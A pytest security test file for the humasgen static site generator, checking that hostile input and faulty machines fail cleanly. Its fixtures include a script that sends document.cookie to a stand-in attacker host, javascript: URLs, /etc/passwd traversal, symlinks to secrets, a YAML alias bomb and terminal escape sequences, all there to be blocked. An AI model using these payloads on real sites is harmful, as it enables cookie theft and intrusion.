"""Security: hostile or broken input and a faulty machine (issue 15, and issue 13's input safety).

Read top to bottom, one section per finding. Each test plays the attacker or the broken
machine for real (links, servers on 127.0.0.1, full disks, concurrent processes) and checks
what a user sees: exit codes, one-line diagnostics `path:line: error: ...`, the files
published, and that the previous output is untouched.
"""
from __future__ import annotations

import contextlib
import json
import os
import re
import resource
import socket
import select
import struct
import subprocess
import sys
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from humasgen import manifest, serve
from humasgen.cache import CACHE_DIR
from humasgen.safety import lock, release as limits

from conftest import BASIC_CONFIG, NOW, release, tree

EPOCH = {"SOURCE_DATE_EPOCH": str(int(NOW.timestamp()))}


def humasgen(*args: str, preexec=None, env: dict | None = None, **kwargs) -> subprocess.CompletedProcess:
    """The real command line in a process of its own (as CI runs it)."""
    return subprocess.run([sys.executable, "-m", "humasgen", *args], capture_output=True, text=True,
                          env={**os.environ, **EPOCH, **(env or {})}, preexec_fn=preexec, **kwargs)


def assert_clean_failure(done: subprocess.CompletedProcess, *expected: str) -> None:
    """Exit 1, the expected text (on stderr; `check` prints its findings on stdout), no traceback."""
    shown = done.stdout + done.stderr
    assert done.returncode == 1, shown
    assert "Traceback" not in shown, shown
    for text in expected:
        assert text in shown, shown


def good_site(make_site, **extra: str):
    return make_site({"content/a.md": release("Rilis Pertama Yang Aman"), **extra})


# --- 15.1 links out of the site -----------------------------------------------------------------

def test_a_link_in_static_to_a_file_outside_the_site_is_an_error_and_nothing_is_published(make_site, tmp_path):
    secret = tmp_path / "environ"
    secret.write_text("HUMASGEN_TELEGRAM_TOKEN=rahasia")
    site = good_site(make_site)
    assert humasgen("build", "--site", str(site)).returncode == 0
    before = tree(site / "output")
    (site / "static" / "files").mkdir(parents=True)
    (site / "static" / "files" / "env.txt").symlink_to(secret)
    for command in ("build", "check"):
        done = humasgen(command, "--site", str(site))
        assert_clean_failure(done, "static/files/env.txt", "outside the site folder")
    assert tree(site / "output") == before
    assert not any(b"rahasia" in data for data in tree(site / "output").values())


def test_a_release_linked_from_outside_is_an_error_a_link_inside_the_site_is_fine(make_site, tmp_path):
    outside = tmp_path / "luar.md"
    outside.write_text(release("Rilis Dari Luar Situs Ini"))
    site = good_site(make_site, **{"drafts/b.md": release("Rilis Dari Dalam Situs Ini")})
    (site / "content" / "b.md").symlink_to(site / "drafts" / "b.md")
    assert humasgen("build", "--site", str(site)).returncode == 0
    (site / "content" / "c.md").symlink_to(outside)
    assert_clean_failure(humasgen("build", "--site", str(site)), "content/c.md: error: berkas ini adalah tautan ke berkas di luar folder situs")


# --- 15.2 permalink and theme stay inside -------------------------------------------------------

@pytest.mark.parametrize("line, shown", [
    ('permalink = "/../../x/{slug}/"', "humasgen.toml:4: error: the permalink"),
    ('theme = "../../elsewhere"', "humasgen.toml:4: error: invalid theme name"),
])
def test_permalink_and_theme_may_not_climb_out(make_site, line, shown, tmp_path):
    (tmp_path / "elsewhere" / "static").mkdir(parents=True)                 # a theme outside the site
    (tmp_path / "elsewhere" / "static" / "bocor.txt").write_text("dari luar situs")
    site = make_site({"content/a.md": release("Rilis Pertama Yang Aman")}, BASIC_CONFIG + line + "\n")
    assert_clean_failure(humasgen("build", "--site", str(site)), shown)
    assert not (site / "output").exists() and not (tmp_path / "x").exists()


# --- 15.3 links, images and raw HTML from content -----------------------------------------------

@pytest.mark.parametrize("meta, key", [
    ({"image": '"javascript:alert(1)"', "image_alt": "x"}, "image"),
    ({"image": '"data:image/svg+xml;base64,PHN2Zz4="', "image_alt": "x"}, "image"),
    ({"attachments": '[{path: "JaVaScRiPt:alert(1)", title: Unduh}]'}, "attachment"),
    ({"attachments": '["/../../etc/passwd"]'}, "attachment"),
])
def test_unsafe_urls_in_front_matter_are_errors(make_site, meta, key):
    site = make_site({"content/a.md": release("Rilis Dengan Tautan Aneh", **meta)})
    done = humasgen("build", "--site", str(site))
    shown = {"image": "image '", "attachment": "lampiran '"}[key]       # the site is Indonesian
    assert_clean_failure(done, "content/a.md:4: error: " + shown)
    assert "tidak sah" in done.stdout + done.stderr
    assert "root:" not in done.stderr


def test_an_attachment_outside_static_reveals_neither_existence_nor_size(make_site, build_site, tmp_path):
    from humasgen.content import Attachment, Body, Release, _with_sizes
    (tmp_path / "rahasia.pdf").write_bytes(b"x" * 1234)
    site = good_site(make_site)
    (site / "static").mkdir()
    (site / "static" / "bocor.pdf").symlink_to(tmp_path / "rahasia.pdf")
    item = Attachment("/bocor.pdf", "Bocor")
    sized = _with_sizes(Release("a", "a", "t", NOW, "t", "/t/", "", Body(""), "", attachments=(item,)), site / "static")
    assert sized.attachments[0].size is None


RAW = """Paragraf biasa dengan <b onclick="alert(1)">huruf tebal</b>.

<script>document.location='https://jahat.example/?'+document.cookie</script>

<iframe src="https://jahat.example/"></iframe>

[tautan](javascript:alert(1)) dan <a href="JAVASCRIPT:alert(2)">lagi</a> dan <img src="data:image/png;base64,AA" alt="x">

## Judul {: onmouseover="alert(3)" }

| a | b |
|:--|--:|
| 1 | 2 |
"""


def test_raw_html_is_cut_to_a_safe_subset(make_site, build_site):
    site = make_site({"content/a.md": release("Rilis Dengan HTML Mentah", body=RAW)})
    build_site(site)
    page = (site / "output" / "2026" / "11" / "rilis-dengan-html-mentah" / "index.html").read_text()
    article = page[page.index("Paragraf biasa"):]
    assert "<b>huruf tebal</b>" in article and "onclick" not in article and "onmouseover" not in article
    assert "<script>document.location" not in article and "jahat.example" not in article
    assert "javascript:" not in article.lower() and "data:image" not in article
    assert '<td style="text-align:right">2</td>' in article          # what Markdown itself writes stays


# --- 15.4 YAML alias bombs ----------------------------------------------------------------------

BOMB = "\n".join(["extra:", '  a: &a ["x","x","x","x","x","x","x","x","x"]'] +
                 [f"  {c}: &{c} [{','.join([f'*{p}'] * 9)}]" for p, c in zip("abcde", "bcdef")])


def test_a_yaml_alias_bomb_is_refused_before_it_expands(make_site):
    text = release("Rilis Dengan Bom Alias YAML", body="Isi.").replace("---\nIsi", BOMB + "\n---\nIsi")
    site = make_site({"content/a.md": text})
    assert_clean_failure(humasgen("build", "--site", str(site)),
                         "content/a.md:", "expands to more than 10,000 values")


def test_deeply_nested_front_matter_is_refused_not_a_crash(make_site):
    text = release("Rilis Dengan Nilai Bersarang").replace("\n---\n", "\nextra: {x: " + "[" * 100_000
                                                          + "]" * 100_000 + "}\n---\n", 1)
    site = make_site({"content/a.md": text})
    assert_clean_failure(humasgen("build", "--site", str(site)), "content/a.md:4: error: the front matter is nested")


# --- 15.5 and 13: any release that cannot be converted is that release's diagnostic ------------

@pytest.mark.parametrize("body, shown", [
    ("```{ .python linenums=True }\nprint(1)\n```", "content/a.md:5: error: the text cannot be converted"),
    ("\n".join("\t" * i + "- butir" for i in range(249)), "error: lists or quotes are nested more than 100"),
    ("- " * 10_000 + "x", "content/a.md:5: error: lists or quotes are nested more than 100"),
    ("> " * 5_000 + "x", "content/a.md:5: error: lists or quotes are nested more than 100"),
    ("\n".join("    " * i + "- butir" for i in range(300)), "error: lists or quotes are nested more than 100"),
], ids=["fenced-bool-option", "249-tab-levels", "10000-levels-one-line", "5000-quotes", "300-space-levels"])
def test_texts_that_break_the_converter_are_diagnostics(make_site, body, shown):
    site = good_site(make_site)
    assert humasgen("build", "--site", str(site), "--jobs", "1").returncode == 0
    before = tree(site / "output")
    (site / "content" / "a.md").write_text(release("Rilis Yang Sulit Diubah", body="Isi.").replace("Isi.", body))
    assert_clean_failure(humasgen("build", "--site", str(site), "--jobs", "1"), shown)
    assert tree(site / "output") == before


def test_a_text_that_takes_too_long_is_stopped_with_a_diagnostic(make_site):
    # Python-Markdown needs minutes for 40 KB of '['; the limit is CPU seconds per file.
    site = make_site({"content/a.md": release("Rilis Dengan Kurung Siku", body="[" * 40_000)})
    assert_clean_failure(humasgen("build", "--site", str(site), "--jobs", "1"),
                         f"content/a.md:5: error: converting the text took more than {limits.CONVERT_SECONDS} s")


def test_a_release_over_the_size_limit_is_refused(make_site):
    body = ("Paragraf panjang yang diulang. " * 40 + "\n\n") * 17_000        # about 20 MB
    site = make_site({"content/a.md": release("Rilis Yang Terlalu Besar", body=body)})
    assert_clean_failure(humasgen("build", "--site", str(site)), "content/a.md:1: error: the file is",
                         "a release may be at most 5 MB")


# --- 13: control characters ---------------------------------------------------------------------

def test_control_characters_never_reach_pages_and_check_points_at_the_line(make_site, build_site):
    import html5lib
    body = "Baris pertama.\n\nTeks tempelan\x0bdari\x0cdokumen\x1b dan\x85 lain."
    text = release("Rilis X Tempelan Dari Kantor", body=body).replace("Rilis X", "Rilis\x0b")
    site = make_site({"content/a.md": text})
    build_site(site)
    for path, data in tree(site / "output").items():
        if path.endswith(".html"):
            text = data.decode()
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text), path
            parser = html5lib.HTMLParser()
            parser.parse(text)
            assert not [e for e in parser.errors if e[1] in ("invalid-codepoint", "control-character-in-input-stream")]
    page = (site / "output" / "2026" / "11" / "rilis-tempelan-dari-kantor" / "index.html").read_text()
    assert "Teks tempelandaridokumen dan lain." in page
    done = humasgen("check", "--site", str(site))
    assert "content/a.md:2: warning: karakter kendali tak terlihat (U+000B)" in done.stdout
    assert "content/a.md:7: warning: karakter kendali tak terlihat (U+000B, U+000C, U+001B, U+0085)" in done.stdout


# --- 15.6 network reads are bounded -------------------------------------------------------------

class Hostile(ThreadingHTTPServer):
    """A server on 127.0.0.1 that trickles, or answers with far too much."""
    daemon_threads = True

    def __init__(self, mode: str):
        self.mode, self.sent, self.cut = mode, 0, False
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def handle_one(self):
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                try:
                    if server.mode == "trickle":
                        for _ in range(40):
                            self.wfile.write(b" ")
                            self.wfile.flush()
                            time.sleep(0.25)
                    else:
                        block = b" " * 65536
                        for _ in range(3200):                # 200 MB
                            self.wfile.write(block)
                            server.sent += len(block)
                except (BrokenPipeError, ConnectionResetError):
                    server.cut = True
                self.close_connection = True

            do_GET = do_POST = handle_one
        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.mark.parametrize("mode, shown", [("trickle", "no answer within 2 s"),
                                         ("huge", "larger than the limit of 1,048,576 bytes")])
def test_previous_manifest_reads_are_bounded_in_time_and_size(make_site, cli, monkeypatch, mode, shown):
    monkeypatch.setattr(manifest, "FETCH_TIMEOUT", 2)
    monkeypatch.setattr(manifest, "FETCH_LIMIT", 1024 * 1024)
    server = Hostile(mode)
    try:
        site = good_site(make_site)
        result = cli("build", "--site", str(site), "--previous", server.url + "/manifest.json")
    finally:
        server.shutdown()
    assert result.exit_code == 1 and shown in result.output, result.output


def test_ping_reads_only_the_start_of_a_huge_answer(make_site, build_site, cli):
    server = Hostile("huge")
    try:
        config = BASIC_CONFIG + f'[feeds]\nindexnow_key = "abcdef0123456789"\nindexnow_endpoint = "{server.url}/in"\n'
        site = make_site({"content/a.md": release("Rilis Pertama Yang Aman")}, config)
        build_site(site)
        result = cli("ping", "--site", str(site), "--all")
        assert result.exit_code == 0, result.output
        deadline = time.monotonic() + 30
        while not server.cut and time.monotonic() < deadline:
            time.sleep(0.05)
    finally:
        server.shutdown()
    assert server.cut and server.sent < 200 * 1024 * 1024     # humasgen hung up early


# --- 15.7 huge images ---------------------------------------------------------------------------

def png_header(width: int, height: int) -> bytes:
    """A PNG that claims width x height (header only: nothing to decode, a few bytes on disk)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b""))


def test_a_huge_image_is_named_with_its_pixels_in_every_command(make_site):
    site = make_site({"static/images/raksasa.png": png_header(20_000, 20_000),
                      "content/a.md": release("Rilis Dengan Foto Raksasa", image="/images/raksasa.png",
                                              image_alt="Foto")})
    expected = ("content/a.md:4: error: the image /images/raksasa.png has 400,000,000 pixels, "
                "more than the limit of 89,478,485")
    for args in (("build",), ("social", "rilis-dengan-foto-raksasa")):
        assert_clean_failure(humasgen(*args, "--site", str(site)), expected)
    done = humasgen("check", "--site", str(site))
    assert done.returncode == 1 and expected in done.stdout and "Traceback" not in done.stderr


# --- 15.8 corrupt caches ------------------------------------------------------------------------

def image_site(make_site):
    from test_images import photo
    return make_site({"static/images/foto.jpg": photo(1400, 788),
                      "content/a.md": release("Rilis Dengan Foto Kegiatan", image="/images/foto.jpg",
                                              image_alt="Foto"),
                      "content/b.md": release("Rilis Tanpa Foto Yang Cukup Panjang", "2026-11-19 10:00")})


def clean_build(site: Path, build_site) -> dict[str, bytes]:
    import shutil
    copy = site.parent / "bersih"
    shutil.rmtree(copy, ignore_errors=True)
    shutil.copytree(site, copy, ignore=shutil.ignore_patterns("output", ".output.*", CACHE_DIR))
    build_site(copy)
    return tree(copy / "output")


def test_truncated_cached_images_and_cards_are_redrawn_not_published(make_site, build_site):
    site = image_site(make_site)
    build_site(site)
    cache = site / CACHE_DIR
    cut = [p for p in (*cache.glob("images/*.*"), *cache.glob("cards/*.jpg")) if p.suffix != ".json"]
    assert any(p.parent.name == "cards" for p in cut) and any(p.suffix == ".webp" for p in cut)
    for path in cut:
        path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    build_site(site)
    assert tree(site / "output") == clean_build(site, build_site)


def wrong_record(record: dict) -> dict:
    live = record["state"]["live"]
    return {"marker": record["marker"], "state": {"live": live, "hashes": {live or "plain": 1}}, "keys": [1]}


# Each keeps the keys a build looks up (so the entry is found) with values of the wrong shape.
WRONG_SHAPES = {
    "images.json": lambda doc: {**doc, "sources": {k: 1 for k in doc["sources"]},
                                "entries": {k: {"width": 1} for k in doc["entries"]}},
    "images/*.json": lambda doc: {"width": 1},
    "related.json": lambda doc: {signature: {i: 1 for i in lists} for signature, lists in doc.items()},
    "releases/*.json": lambda doc: {**doc, "entries": {k: {"stat": v["stat"], "release": {"id": 1}}
                                                       for k, v in doc["entries"].items()}},
    "output-*.json": wrong_record,
    "output-*.json ": lambda record: {**record, "pages": {"paths": [1, [2], None], "groups": {"g": [0, 9]},
                                                          "pages": {k: 1 for k in record["pages"].get("pages", {})}}},
}


@pytest.mark.parametrize("name", WRONG_SHAPES)
def test_cache_files_of_the_wrong_shape_are_rebuilt(make_site, build_site, name):
    site = image_site(make_site)
    build_site(site)
    build_site(site)                        # the output is now a link to one of two trees
    files = list((site / CACHE_DIR).glob(name.strip()))
    assert files
    for path in files:
        path.write_text(json.dumps(WRONG_SHAPES[name](json.loads(path.read_bytes()))))
    build_site(site)
    assert tree(site / "output") == clean_build(site, build_site)


def _whole_file(change):
    def damage(path: Path) -> None:
        for suffix in ("-wal", "-shm"):
            Path(f"{path}{suffix}").unlink(missing_ok=True)
        change(path)
    return damage


BODY_STORE_DAMAGE = {
    "garbage": _whole_file(lambda path: path.write_bytes(b"this is not a database\n" * 200)),
    "torn": _whole_file(lambda path: path.write_bytes(path.read_bytes()[:1000])),
    "gone": _whole_file(lambda path: path.unlink()),
    "rows lost": lambda path: _sql(path, "DELETE FROM body WHERE rowid % 2 = 0"),
    "rows wrong": lambda path: _sql(path, "UPDATE body SET html = NULL"),
    "other settings": lambda path: _sql(path, "UPDATE meta SET value = 'lain' WHERE name = 'key'"),
}


def _sql(path: Path, statement: str) -> None:
    import sqlite3
    with contextlib.closing(sqlite3.connect(path)) as db:
        if statement.startswith("UPDATE body"):     # NOT NULL: rebuild the table without it
            db.executescript("CREATE TABLE b2 (hash TEXT PRIMARY KEY, html TEXT); INSERT INTO b2 "
                             "SELECT hash, NULL FROM body; DROP TABLE body; ALTER TABLE b2 RENAME TO body;")
        else:
            db.execute(statement)
        db.commit()


@pytest.mark.parametrize("damage", BODY_STORE_DAMAGE)
def test_a_damaged_body_store_is_rebuilt(make_site, build_site, damage):
    """The body store is cache: whatever happened to it, the next build equals a clean one."""
    site = image_site(make_site)
    build_site(site)
    path = site / CACHE_DIR / "bodies.sqlite"
    BODY_STORE_DAMAGE[damage](path)
    build_site(site)
    assert tree(site / "output") == clean_build(site, build_site)


# --- 15.9 and 13: one build at a time -----------------------------------------------------------

def test_a_second_build_waits_for_the_first_and_says_so(make_site):
    site = good_site(make_site)
    with lock.site_lock(site):                          # a build in progress
        second = subprocess.Popen([sys.executable, "-m", "humasgen", "build", "--site", str(site)],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                  env={**os.environ, **EPOCH})
        line = second.stderr.readline()
        assert "waiting for another build of this site (process" in line
        assert not (site / "output").exists()           # it waits before touching anything
    out, err = second.communicate(timeout=120)
    assert second.returncode == 0 and "Selesai: 1 rilis" in out, err


def test_builds_started_together_never_corrupt_and_announce_once(make_site, build_site, tmp_path):
    log = tmp_path / "announced.log"
    config = BASIC_CONFIG + f'[hooks]\ncommands = ["echo $HUMASGEN_RELEASE_ID >> {log}"]\n'
    site = make_site({"content/a.md": release("Rilis Pertama Yang Aman")}, config)
    assert humasgen("build", "--site", str(site)).returncode == 0
    for round_ in range(3):
        (site / "content" / f"baru-{round_}.md").write_text(release(f"Rilis Baru Nomor {round_} Hari Ini"))
        command = [sys.executable, "-m", "humasgen", "build", "--site", str(site), "--jobs", "2"]
        builds = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                   env={**os.environ, **EPOCH}) for _ in range(3)]
        results = [(b.wait(timeout=300), *b.communicate()) for b in builds]
        assert all(code == 0 for code, _, _ in results), results
    assert sorted(log.read_text().split()) == ["baru-0", "baru-1", "baru-2"]
    assert tree(site / "output") == clean_build(site, build_site)
    announced = json.loads((site / "output" / "manifest.json").read_text())
    assert {r["id"] for r in announced["releases"]} == {"a", "baru-0", "baru-1", "baru-2"}


# --- 15.10 file-system faults -------------------------------------------------------------------

def test_an_output_that_cannot_be_written_is_one_line(make_site, tmp_path):
    site = good_site(make_site)
    blocker = tmp_path / "berkas"
    blocker.write_text("bukan folder")
    done = humasgen("build", "--site", str(site), "--output", str(blocker / "output"))
    assert_clean_failure(done, f"{blocker}: error: ")
    assert len([line for line in done.stderr.splitlines() if "error" in line]) == 2   # the diagnostic, the count


def unprivileged():
    """As root (CI runs tests as root), give up the powers that ignore file modes, as a user has none."""
    if os.getuid() == 0:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for capability in (1, 2, 3):        # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_FOWNER
            if libc.prctl(24, capability, 0, 0, 0) != 0:        # PR_CAPBSET_DROP: gone after exec
                raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


@pytest.mark.parametrize("locked, shown", [("output", "permission denied"), (CACHE_DIR, f"make {CACHE_DIR}/ writable")])
def test_folders_without_write_permission_are_one_clear_line(make_site, locked, shown):
    site = good_site(make_site)
    assert humasgen("build", "--site", str(site), preexec=unprivileged).returncode == 0
    before = tree(site / "output")
    (site / "content" / "b.md").write_text(release("Rilis Kedua Yang Aman Juga"))
    target = site / locked
    for path in [target, *target.rglob("*")]:
        if path.is_dir() and not path.is_symlink():
            os.chmod(path, 0o555)
    os.chmod(site, 0o555)                                    # nor may the output be replaced beside it
    try:
        done = humasgen("build", "--site", str(site), preexec=unprivileged)
    finally:
        for path in [site, *site.rglob("*")]:
            if path.is_dir() and not path.is_symlink():
                os.chmod(path, 0o755)
    assert_clean_failure(done, shown)
    assert tree(site / "output") == before


def test_a_full_disk_is_one_line_leaves_no_temporary_file_and_the_next_build_works(make_site, build_site):
    site = good_site(make_site, **{"static/files/laporan.pdf": b"%PDF" + os.urandom(3 * 1024 * 1024)})
    (site / "content" / "a.md").write_text(release("Rilis Pertama Yang Aman",
                                                   attachments='["/files/laporan.pdf"]'))
    assert humasgen("build", "--site", str(site)).returncode == 0
    before = tree(site / "output")
    (site / "static" / "files" / "laporan.pdf").write_bytes(b"%PDF" + os.urandom(3 * 1024 * 1024))

    def small_disk():                                         # files may grow to 1 MB: `ulimit -f 1024`
        resource.setrlimit(resource.RLIMIT_FSIZE, (1024 * 1024, 1024 * 1024))
    done = humasgen("build", "--site", str(site), preexec=small_disk)
    assert_clean_failure(done, "laporan.pdf", "ulimit -f")
    assert tree(site / "output") == before
    leftovers = [p for p in site.parent.rglob("*") if p.is_file() and (p.name.endswith(".tmp") or p.name.startswith(".tmp-"))]
    assert leftovers == []
    assert humasgen("build", "--site", str(site)).returncode == 0
    assert tree(site / "output") == clean_build(site, build_site)


# --- 15.11 the preview server -------------------------------------------------------------------

@pytest.fixture
def preview(make_site):
    site = good_site(make_site)
    lines: list[str] = []
    server, watcher, url = serve.start(site, "127.0.0.1", 0, clock=lambda: NOW, echo=lines.append)
    yield server, lines
    serve.stop(server, watcher)


def raw_get(port: int, path: str, host: str) -> tuple[int, bytes]:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode("latin-1"))
        data = b""
        while chunk := conn.recv(65536):
            data += chunk
    return int(data.split(b" ", 2)[1]), data


def test_the_preview_answers_only_to_its_own_names(preview):
    server, _ = preview
    port = server.server_address[1]
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", "localhost"):
        assert raw_get(port, "/", host)[0] == 200, host
    status, data = raw_get(port, "/", f"jahat.example:{port}")         # DNS rebinding
    assert status == 400 and b"Rilis Pertama" not in data


def test_an_undecodable_path_is_a_404_without_a_traceback(preview):
    server, lines = preview
    status, _ = raw_get(server.server_address[1], "/%ff", f"127.0.0.1:{server.server_address[1]}")
    assert status == 404 and not any("Traceback" in line for line in lines)


def test_the_preview_accepts_200_connections_at_once(make_site):
    server = serve.bind("127.0.0.1", 0)                 # listening, not yet accepting: the backlog holds them
    try:
        sockets = []
        for _ in range(200):
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(server.server_address)
            sockets.append(s)
        pending, connected = set(sockets), 0
        deadline = time.monotonic() + 5
        while pending and time.monotonic() < deadline:
            _, ready, _ = select.select([], list(pending), [], 0.5)
            for s in ready:
                pending.discard(s)
                connected += s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0
        assert connected == 200
    finally:
        for s in sockets:
            s.close()
        server.server_close()


# --- 15.12 small things -------------------------------------------------------------------------

def test_escape_sequences_in_names_and_titles_do_not_reach_the_terminal(make_site):
    site = good_site(make_site)
    humasgen("build", "--site", str(site))
    hostile = site / "content" / "baru\x1b]0;diretas\x07\x1b[2J.md"        # a file name is printed too
    hostile.write_text(release("Rilis Tanpa Tanggal").replace("date:", "tanggal:"))
    done = humasgen("build", "--site", str(site))
    assert done.returncode == 1 and "tidak dikenal" in done.stderr       # the unknown key, in the site's language
    assert "\x1b" not in done.stderr and "\x07" not in done.stderr
    hostile.write_text(release("Rilis \x1b]0;diretas\x07\x1b[2J Baru Hari Ini"))
    done = humasgen("build", "--site", str(site))
    assert done.returncode == 0 and "Diumumkan 1 rilis baru" in done.stdout
    assert "\x1b" not in done.stdout + done.stderr and "\x07" not in done.stdout + done.stderr


def hook_site(make_site, command: str, timeout: int = 30):
    config = BASIC_CONFIG + f'[hooks]\ncommands = [{json.dumps(command)}]\ntimeout = {timeout}\n'
    return make_site({"content/a.md": release("Rilis Pertama Yang Aman")}, config)


def test_a_hook_that_prints_a_lot_costs_no_memory(make_site):
    site = hook_site(make_site, "head -c 400000000 /dev/zero | tr '\\0' x >&2; echo akhir >&2; exit 3")
    humasgen("build", "--site", str(site))
    (site / "content" / "b.md").write_text(release("Rilis Baru Yang Diumumkan"))
    script = ("import resource, subprocess, sys; r = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
              "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); print(r.stderr, file=sys.stderr)")
    done = subprocess.run([sys.executable, "-c", script, sys.executable, "-m", "humasgen", "build", "--site", str(site)],
                          capture_output=True, text=True, env={**os.environ, **EPOCH})
    assert "exited with status 3 for release b: " in done.stderr and "akhir" in done.stderr
    assert int(done.stdout.split()[-1]) < 250_000          # kilobytes: far less than the 400 MB printed


def test_a_hook_that_leaves_a_job_in_the_background_is_not_waited_for(make_site):
    site = hook_site(make_site, "sleep 8 & echo dimulai", timeout=3)
    humasgen("build", "--site", str(site))
    (site / "content" / "b.md").write_text(release("Rilis Baru Yang Diumumkan"))
    done = humasgen("build", "--site", str(site))
    assert done.returncode == 0 and "timed out" not in done.stderr, done.stderr
    assert "Diumumkan 1 rilis baru" in done.stdout


def test_a_body_gone_during_a_build_is_a_diagnostic(tmp_path):
    """A store emptied under a running build (someone removed .humasgen/): run again, no traceback."""
    from humasgen import bodies
    from humasgen.errors import HumasgenError
    store = bodies.open_store(tmp_path, "kunci")
    assert store is not None and store.put_many([("abc", "<p>Isi.</p>")])
    body = bodies.Body(None, store, "abc")
    assert body.html == "<p>Isi.</p>" and body.held is None
    store.prune(set())
    with pytest.raises(HumasgenError) as caught:
        body.html
    assert "run the command again" in caught.value.diagnostics[0].format()
